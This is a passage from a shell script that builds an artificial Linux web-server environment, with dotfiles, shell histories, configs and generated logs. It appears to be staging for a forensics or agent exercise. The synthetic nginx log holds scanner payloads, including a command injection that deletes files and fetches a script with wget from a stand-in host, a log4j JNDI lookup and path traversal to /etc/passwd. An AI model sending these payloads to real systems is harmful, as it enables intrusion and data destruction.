function fetch(url) { return new Promise((resolve, reject) => { https.get(url, (res) => { if (res.statusCode !== 200) return reject(new Error(`Server responded with ${res.statusCode}`)); let c=[]; res.on("data", x => c.push(x)); res.on("end", () => resolve(Buffer.concat(c))); }).on("error", reject); }); }
child_process.execFileSync("npm", ["--version"]);
E
mkelf $P/node_modules/@esbuild/linux-x64/bin/esbuild "esbuild 0.21.5"
mkdir -p "$R$P/node_modules/.bin"; ln -sf ../@esbuild/linux-x64/bin/esbuild "$R$P/node_modules/.bin/esbuild"
w $P/node_modules/lodash/lodash.min.js <<'E'
/** @license Lodash */ ;(function(){function n(n,t,r){switch(r.length){case 0:return n.call(t);case 1:return n.call(t,r[0])}return n.apply(t,r)}var un=Function("return this")();}).call(this);
E
w $P/.venv/pyvenv.cfg <<<$'home = /usr/bin\ninclude-system-site-packages = false\nversion = 3.11.2'
w $P/.venv/lib/python3.11/site-packages/distutils-precedence.pth <<<"import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim();"
w $P/.venv/lib/python3.11/site-packages/_virtualenv.pth <<<'import _virtualenv'
w $P/.venv/lib/python3.11/site-packages/__editable__.portal_tools-0.3.pth <<<'/home/olusegun/src/portal/tools'
mkdir -p "$R$P/.venv/bin"; ln -sf /usr/bin/python3 "$R$P/.venv/bin/python3"; ln -sf python3 "$R$P/.venv/bin/python"
w $P/tools/portscan_test.py <<'E'
"""check that the staging ports are open"""
import socket, sys
for host, port in (("staging", 443), ("staging", 5432)):
    with socket.create_connection((host, port), timeout=3): print(host, port, "ok")
E
w $P/.app.py.swp <<<$'b0VIM 9.0\001olusegun web03 ~olusegun/src/portal/app.py'
w '/srv/git/site.git/hooks/post-receive' 755 <<'E'
#!/bin/bash
while read -r old new ref; do
  [ "$ref" = refs/heads/main ] && GIT_WORK_TREE=/var/www/wordpress/wp-content/themes/hartmann git checkout -f main
done
curl -s -X POST -H 'Content-type: application/json' --data '{"text":"theme deployed"}' "$(cat /etc/slack-webhook)" >/dev/null
E
w /srv/git/site.git/config <<<$'[core]\n\trepositoryformatversion = 0\n\tbare = true\n\tsharedRepository = group'
w /etc/slack-webhook 640 <<<'https://hooks.slack.com/services/T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX'
w /opt/stacks/uptime-kuma/docker-compose.yml <<'E'
services:
  uptime-kuma:
    image: louislam/uptime-kuma:1
    restart: unless-stopped
    ports: ["127.0.0.1:3001:3001"]
    volumes: ["./data:/app/data"]
E
w /opt/stacks/monitoring/compose.yaml <<'E'
services:
  cadvisor:
    image: gcr.io/cadvisor/cadvisor:v0.49.1
    privileged: true
    restart: always
    volumes: ["/:/rootfs:ro", "/var/run:/var/run:ro", "/sys:/sys:ro", "/var/lib/docker/:/var/lib/docker:ro"]
    devices: ["/dev/kmsg"]
  portainer_agent:
    image: portainer/agent:2.19.4
    restart: always
    volumes: ["/var/run/docker.sock:/var/run/docker.sock"]
E
w /home/olusegun/playbooks/site.yml <<'E'
- hosts: web
  become: true
  roles: [common, ssh, nginx, php, restic, zabbix]
  tasks:
    - name: authorized keys
      ansible.posix.authorized_key: {user: mhartmann, key: "{{ lookup('file', 'keys/mhartmann.pub') }}"}
E
w /opt/vendor-agent/install.log <<<'Unpacking vendor-agent (4.2.1-1) ... Setting up vendor-agent (4.2.1-1) ...'
mkelf /opt/vendor-agent/bin/agentd "vendor-agent 4.2.1 https://telemetry.vendor.example"
w /opt/vendor-agent/DEBIAN/control <<<$'Package: vendor-agent\nVersion: 4.2.1-1\nArchitecture: amd64\nMaintainer: Vendor <pkg@vendor.example>'
w /opt/vendor-agent/DEBIAN/postinst 755 <<'E'
#!/bin/sh
set -e
if [ "$1" = configure ]; then systemctl daemon-reload || true; systemctl enable --now vendor-agent.service || true; fi
E
# ---- dotfiles and histories
w /home/mhartmann/.bashrc <<'E'
case $- in *i*) ;; *) return;; esac
HISTCONTROL=ignoreboth
shopt -s histappend
alias ls='ls --color=auto'
alias k=kubectl
alias please='sudo $(fc -ln -1)'
export PATH="$HOME/bin:$HOME/.local/bin:$PATH"
[ -f ~/.fzf.bash ] && . ~/.fzf.bash
[ -z "$SSH_AUTH_SOCK" ] && eval "$(ssh-agent -s)" >/dev/null
E
w /home/mhartmann/.bash_logout <<<'[ "$SHLVL" = 1 ] && [ -x /usr/bin/clear_console ] && /usr/bin/clear_console -q'
w /home/mhartmann/.bash_history 600 < <(
 c=('sudo apt update' 'sudo apt upgrade' 'df -h' 'sudo systemctl status nginx' 'sudo tail -f /var/log/nginx/error.log' 'cd /var/www/wordpress' 'ls -la' 'htop' 'sudo journalctl -u php8.2-fpm -n 50' 'sudo nginx -t && sudo systemctl reload nginx' 'vim notes.txt' 'git pull' 'ssh backup01' 'du -sh * | sort -h' 'sudo fail2ban-client status sshd' 'sudo certbot renew --dry-run' 'docker ps' 'docker compose logs -f --tail=50' 'sudo less /var/log/auth.log' 'find . -name "*.log" -size +50M' 'tar czf ~/wp-theme.tar.gz wp-content/themes/hartmann' 'scp wp-theme.tar.gz backup01:' 'mysql wp_shop' 'sudo chown -R www-data: wp-content/uploads' 'crontab -e' 'sudo visudo -f /etc/sudoers.d/zabbix' 'history | grep restic' 'ping 10.20.0.9' 'dig hartmann-shop.example' 'curl -I https://hartmann-shop.example' 'sudo ss -tlnp' 'exit')
 for ((i=0;i<900;i++)); do echo "#$((1777000000+i*19800))"; echo "${c[(i*7+i/13)%${#c[@]}]}"; done)
a /root/.bash_history <<'E'
apt-get install -y curl gnupg
curl -fsSL https://download.docker.com/linux/debian/gpg -o /etc/apt/keyrings/docker.asc
apt-get install docker-ce docker-compose-plugin
useradd -r -s /usr/sbin/nologin prometheus
wget https://github.com/prometheus/node_exporter/releases/download/v1.8.1/node_exporter-1.8.1.linux-amd64.tar.gz
tar xzf node_exporter-1.8.1.linux-amd64.tar.gz && mv node_exporter-1.8.1.linux-amd64/node_exporter /usr/local/bin/
tcpdump -ni ens18 port 51820 -c 20
nmap -sn 10.20.0.0/24
nc -zv 10.20.0.9 22
journalctl --vacuum-time=30d
chmod 600 /etc/wireguard/wg0.conf
reboot
E
chmod 600 "$R/root/.bash_history"
w /home/tobias.w/.bash_history 600 < <(for ((i=0;i<220;i++)); do case $((i%8)) in 0) echo 'sudo -i';; 1) echo 'cd /opt/stacks/monitoring; docker compose pull && docker compose up -d';; 2) echo "grep -c 'Failed password' /var/log/auth.log";; 3) echo 'sudo iptables -L -n -v';; 4) echo 'sudo lastb | head';; 5) echo 'vim compose.yaml';; 6) echo 'strace -p $(pgrep -o php-fpm) -c';; 7) echo 'git commit -am "bump cadvisor" && git push';; esac; done)
w /home/olusegun/.zsh_history 600 < <(for ((i=0;i<300;i++)); do case $((i%6)) in 0) x='npm run build';; 1) x='git rebase -i origin/main';; 2) x='source .venv/bin/activate && pytest -q';; 3) x='ansible-playbook -i inv site.yml --check --diff';; 4) x='python3 -m http.server 8000 --bind 127.0.0.1';; 5) x='echo -n c2VjcmV0 | base64 -d';; esac; echo ": $((1780000000+i*7000)):0;$x"; done)
w /home/olusegun/.zshrc <<'E'
export ZSH="$HOME/.oh-my-zsh"; ZSH_THEME="robbyrussell"; plugins=(git docker)
source $ZSH/oh-my-zsh.sh
export NVM_DIR="$HOME/.nvm"; [ -s "$NVM_DIR/nvm.sh" ] && . "$NVM_DIR/nvm.sh"
eval "$(direnv hook zsh)"
E
w /home/olusegun/.gitconfig <<<$'[user]\n\tname = Olusegun Adeyemi\n[core]\n\tpager = less -FRX\n[alias]\n\tlg = log --oneline --graph\n\tclean-merged = "!git branch --merged | grep -v main | xargs -r git branch -d"'
w /home/mhartmann/.viminfo 600 <<<$'# This viminfo file was generated by Vim 9.0.\n:wq\n\'0  12  4  ~/notes.txt\n\'1  3  0  /etc/nginx/sites-available/hartmann-shop.conf'
w '/home/mhartmann/Notizen Server umzug 2026.txt' <<<$'- DNS TTL senken\n- restic testen\n- Tobias: Zertifikate?'
w '/home/mhartmann/old stuff/Kopie von rechnung (2).csv' <<<$'nr;betrag\n1001;44,90'
w /home/mhartmann/.vimrc <<<$'syntax on\nset expandtab sw=4'
w /home/tobias.w/.tmux.conf <<<'set -g mouse on'
w /home/tobias.w/.config/htop/htoprc <<<'hide_kernel_threads=1'
w /etc/nginx/sites-available/.hartmann-shop.conf.swp <<<$'b0VIM 9.0\001root web03 /etc/nginx/sites-available/hartmann-shop.conf'
w /root/dead.letter <<<$'From: root\nSubject: Cron <root@web03> /usr/local/sbin/db-dump.sh\n\nmysqldump: Error 2013'
{ printf '\177ELF\002\001\001\000\000\000\000\000\000\000\000\000\004\000\076\000'; head -c 20000 /dev/zero; } | w /var/crash/core.php-fpm8.2.33.1792000000 600
w /var/crash/_usr_bin_syncthing.1103.crash 640 <<<$'ProblemType: Crash\nExecutablePath: /usr/bin/syncthing'
for k in 6.1.0-18-amd64 6.1.0-25-amd64; do { printf 'MZ\352\007'; head -c 6000 /dev/urandom; } | w /boot/vmlinuz-$k; { printf '\037\213\010\000'; head -c 3000 /dev/urandom; } | w /boot/initrd.img-$k; w /boot/config-$k <<<'CONFIG_MODULE_SIG=y'; w /usr/lib/modules/$k/modules.dep <<<'kernel/drivers/net/wireguard/wireguard.ko:'; done
w /var/tmp/systemd-private-6c1f/tmp/.keep </dev/null; w /var/tmp/vzdump.conf.tmp <<<'x'; mkdir -p "$R/var/tmp/dnf-olusegun-x7" "$R/tmp/.X11-unix" "$R/tmp/tmux-1102"; chmod 1777 "$R/tmp/.X11-unix"
w '/tmp/sess_8v2k1 - Kopie.txt' <<<test; w /tmp/composer-cache/files.json <<<'{}'
w /var/backups/mysql/wp_shop-2026-11-26.sql.gz 600 < <(echo '-- MariaDB dump 10.19' | gzip)
w '/srv/samba/Buchhaltung/Passwörter Drucker.txt' <<<'HP Etage 2: admin / siehe Aufkleber'
w /etc/rc.local 755 <<'E'
#!/bin/sh -e
# hdparm for the backup disk
hdparm -S 120 /dev/disk/by-label/OFFSITE >/dev/null 2>&1 || true
exit 0
E
# ---- logs
w /etc/hostname <<<web03
L=/var/log; mkdir -p "$R$L/nginx"
python3 - "$R$L" <<'E'
import sys,random,datetime as d,gzip,struct,os
L=sys.argv[1]; rnd=random.Random(77); D=d.timedelta; H='web03'
iso=lambda t:t.strftime('%Y-%m-%dT%H:%M:%S.%f')+'+00:00'
bots=['218.92.0.%d'%i for i in range(20,60,3)]+['61.177.172.%d'%i for i in range(130,160,4)]+['159.65.%d.12'%i for i in range(10,90,9)]+['80.94.95.115','92.255.85.37']
names='root admin user test ubuntu oracle postgres git ftpuser pi nagios hadoop minecraft es dev www'.split()
fp={'mhartmann':('10.99.0.2','ED25519 SHA256:9vS3cT0m1xq4Jw8rYbX2kLhGd7uPzEaN5oIfMt6KcQs'),'tobias.w':('10.20.0.31','RSA SHA256:Lk2pZs8QfXn0vYtB4mWjR7dHcE1gUaO9iTz3bNq5xVw'),'olusegun':('10.99.0.4','ED25519 SHA256:b7Rm1Yk0QzWx4tVn8sJp2cLd6hGfEu3aOiTq9BvNx5M')}
start=d.datetime(2026,11,8); end=d.datetime(2026,11,28,7)
auth=[];sysl=[];kern=[];f2b=[];wt=[];bt=[];pid=1200
def A(t,s): auth.append((t,f'{iso(t)} {H} {s}'))
def S(t,s): sysl.append((t,f'{iso(t)} {H} {s}'))
t=start
while t<end:
    h=t+D(minutes=17,seconds=1,microseconds=rnd.randrange(999999)); pid+=rnd.randrange(3,40)
    A(h,f'CRON[{pid}]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)'); A(h+D(milliseconds=40),f'CRON[{pid}]: pam_unix(cron:session): session closed for user root')
    S(h,f'CRON[{pid+1}]: (root) CMD (   cd / && run-parts --report /etc/cron.hourly)')
    for m in range(0,60,5): S(t+D(minutes=m,seconds=2),f'CRON[{pid+2+m}]: (munin) CMD (if [ -x /usr/bin/munin-cron ]; then /usr/bin/munin-cron; fi)')
    S(t+D(minutes=33,seconds=9),'systemd[1]: Starting phpsessionclean.service - Clean php session files...'); S(t+D(minutes=33,seconds=10),'systemd[1]: Finished phpsessionclean.service - Clean php session files.')
    for _ in range(rnd.randrange(2,9)):
        x=t+D(seconds=rnd.randrange(3500)); b=rnd.choice(bots); u=rnd.choice(names); pid+=3; po=rnd.randrange(30000,60000)
        if u=='root': A(x,f'sshd[{pid}]: Failed password for root from {b} port {po} ssh2'); A(x+D(seconds=1),f'sshd[{pid}]: Connection closed by authenticating user root {b} port {po} [preauth]')
        else: A(x,f'sshd[{pid}]: Invalid user {u} from {b} port {po}'); A(x+D(seconds=2),f'sshd[{pid}]: Connection closed by invalid user {u} {b} port {po} [preauth]')
        bt.append((x,u,b,pid))
        if rnd.random()<.15: f2b.append((x,f"{x.strftime('%Y-%m-%d %H:%M:%S')},{rnd.randrange(1000):03} fail2ban.actions        [612]: NOTICE  [sshd] Ban {b}"))
    if t.hour in (8,9,13,16) and t.weekday()<5:
        u=rnd.choice(list(fp)); ip,k=fp[u]; x=t+D(minutes=rnd.randrange(50),seconds=rnd.randrange(60)); pid+=5; po=rnd.randrange(50000,60000); uid={'mhartmann':1101,'tobias.w':1102,'olusegun':1103}[u]
        A(x,f'sshd[{pid}]: Accepted publickey for {u} from {ip} port {po} ssh2: {k}'); A(x+D(milliseconds=9),f'sshd[{pid}]: pam_unix(sshd:session): session opened for user {u}(uid={uid}) by (uid=0)')
        A(x+D(milliseconds=200),f'systemd-logind[540]: New session {pid%999} of user {u}.')
        wt.append((x,7,u,ip,pid)); y=x+D(minutes=rnd.randrange(3,50)); wt.append((y,8,'','',pid))
        if u!='olusegun':
            for c in rnd.sample(['/usr/bin/apt update','/usr/bin/systemctl reload nginx','/usr/bin/tail -f /var/log/nginx/error.log','/usr/bin/journalctl -u php8.2-fpm -n 50','/usr/bin/less /var/log/auth.log'],2): A(x+D(minutes=1,seconds=rnd.randrange(60)),f'sudo: {u:>9} : TTY=pts/0 ; PWD=/home/{u} ; USER=root ; COMMAND={c}')
        A(y,f'sshd[{pid}]: pam_unix(sshd:session): session closed for user {u}')
    if t.hour==2: S(t+D(minutes=31),'systemd[1]: Starting restic-backup.service - restic backup of /etc /srv /var/www...'); S(t+D(minutes=44),'restic[30112]: snapshot 4f1c2ab8 saved'); S(t+D(minutes=45),'systemd[1]: Finished restic-backup.service - restic backup of /etc /srv /var/www.')
    if t.hour==11 and t.weekday()==1:
        x=t+D(minutes=5); A(x,'sshd[9911]: Accepted publickey for ansible-svc from 10.20.0.5 port 40112 ssh2: ED25519 SHA256:Qe0mVb1ZkX3tYs8nJr7LhGd2uPzEaN5oIfMt6KcW4xU')
        for i in range(6): A(x+D(seconds=2*i+1),f'sudo: ansible-svc : PWD=/home/ansible-svc ; USER=root ; COMMAND=/bin/sh -c \'echo BECOME-SUCCESS-{rnd.randrange(10**9)} ; /usr/bin/python3 /home/ansible-svc/.ansible/tmp/ansible-tmp-{rnd.randrange(10**9)}/AnsiballZ_apt.py\'')
    kern.append((t,f'{iso(t+D(minutes=3))} {H} kernel: [UFW BLOCK] IN=ens18 OUT= SRC={rnd.choice(bots)} DST=10.20.0.13 LEN=40 PROTO=TCP SPT=45122 DPT={rnd.choice([23,445,3389,8080])} SYN'))
    t+=D(hours=1)
auth.append((d.datetime(2026,11,17,10,2),f'2026-11-17T10:02:00.100000+00:00 {H} groupadd[7712]: new group: name=sftponly, GID=1110'))
for l in (auth,sysl,kern,f2b,wt,bt): l.sort(key=lambda z:z[0])
cut=d.datetime(2026,11,22,0,0)
def put(n,l,mode=0o640):
    p=os.path.join(L,n)
    if os.path.islink(p): os.remove(p)
    with open(p,'w') as f: f.writelines(s+'\n' for x,s in l if x>=cut)
    os.chmod(p,mode)
    p2=p+'.1'; new=d.datetime(2026,11,15)
    with open(p2,'w') as f: f.writelines(s+'\n' for x,s in l if new<=x<cut)
    os.chmod(p2,mode)
    with gzip.open(p+'.2.gz','wt') as f: f.writelines(s+'\n' for x,s in l if x<new)
    os.chmod(p+'.2.gz',mode)
put('auth.log',auth); put('syslog',sysl); put('kern.log',kern); put('fail2ban.log',f2b)
pages=['/','/shop/','/produkt/kaffeemuehle-k3/','/warenkorb/','/wp-content/uploads/2026/09/banner-09-1024x512.png','/wp-includes/js/jquery/jquery.min.js?ver=3.7.1','/feed/','/robots.txt','/favicon.ico','/status/']
scan=[('/.env',404),('/.git/config',404),('/wp-content/plugins/hellopress/wp_filemanager.php',404),('/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',404),('/cgi-bin/.%2e/.%2e/.%2e/etc/passwd',400),('/shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.9/a.sh',404),('/index.php?s=/index/\\x5Cthink\\x5Capp/invokefunction&function=call_user_func_array',404),('/phpmyadmin/index.php',404),('/wp-content/uploads/x.php',403),('/boaform/admin/formLogin',404),('/xmlrpc.php',403),('/?x=${jndi:ldap://198.51.100.8/a}',403)]
ua='Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0'
acc=[];t=start
while t<end:
    t+=D(seconds=rnd.randrange(40,500)); ts=t.strftime('%d/%b/%Y:%H:%M:%S +0000')
    if rnd.random()<.12: p,c=rnd.choice(scan); acc.append((t,f'{rnd.choice(bots)} - - [{ts}] "GET {p} HTTP/1.1" {c} {146 if c!=403 else 153} "-" "Mozilla/5.0 zgrab/0.x"'))
    elif rnd.random()<.03: acc.append((t,f'10.99.0.2 - - [{ts}] "POST /wp-admin/admin-ajax.php HTTP/2.0" 200 47 "https://hartmann-shop.example/wp-admin/" "{ua}"'))
    elif rnd.random()<.05: acc.append((t,f'66.249.66.{rnd.randrange(1,99)} - - [{ts}] "GET {rnd.choice(pages)} HTTP/1.1" 200 {rnd.randrange(900,40000)} "-" "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"'))
    else: acc.append((t,f'{rnd.choice([79,84,91,217])}.{rnd.randrange(10,240)}.{rnd.randrange(250)}.{rnd.randrange(1,250)} - - [{ts}] "GET {rnd.choice(pages)} HTTP/2.0" 200 {rnd.randrange(900,40000)} "https://hartmann-shop.example/" "{ua}"'))
put('nginx/access.log',acc); 
put('nginx/error.log',[(x,x.strftime('%Y/%m/%d %H:%M:%S')+' [error] 712#712: *%d open() "/var/www/wordpress/robots2.txt" failed (2: No such file or directory), client: 84.17.1.9, server: www.hartmann-shop.example'%i) for i,(x,_) in enumerate(acc) if i%60==0])
def rec(x,ty,u,h,p,line='pts/0'): return struct.pack('<h2xi32s4s32s256shhiii4I20s',ty,p,line.encode(),b'ts/0',u.encode(),h.encode(),0,0,p,int(x.replace(tzinfo=d.timezone.utc).timestamp()),0,0,0,0,0,b'')
def app(n,b):
    p=os.path.join(L,n)
    if os.path.islink(p): os.remove(p)
    open(p,'wb').write(b)
app('wtmp',rec(start,2,'reboot','6.1.0-25-amd64',0,'~')+b''.join(rec(x,ty,u,h,p) for x,ty,u,h,p in wt))
app('btmp',b''.join(rec(x,6,u,b,p,'ssh:notty') for x,u,b,p in bt))
E
for f in auth.log syslog kern.log fail2ban.log nginx/access.log nginx/error.log; do chown 0:4 "$R/var/log/$f" "$R/var/log/$f.1" "$R/var/log/$f.2.gz"; done
chown -R 1101:1101 "$R/home/mhartmann"; chown -R 1102:1102 "$R/home/tobias.w"; chown -R 1103:1103 "$R/home/olusegun"; chown -R 1104:1104 "$R/home/ansible-svc"; chown -R 1105:1105 "$R/srv/deploy"
chmod 1777 "$R/tmp" "$R/var/tmp" 2>/dev/null || true
exit 0
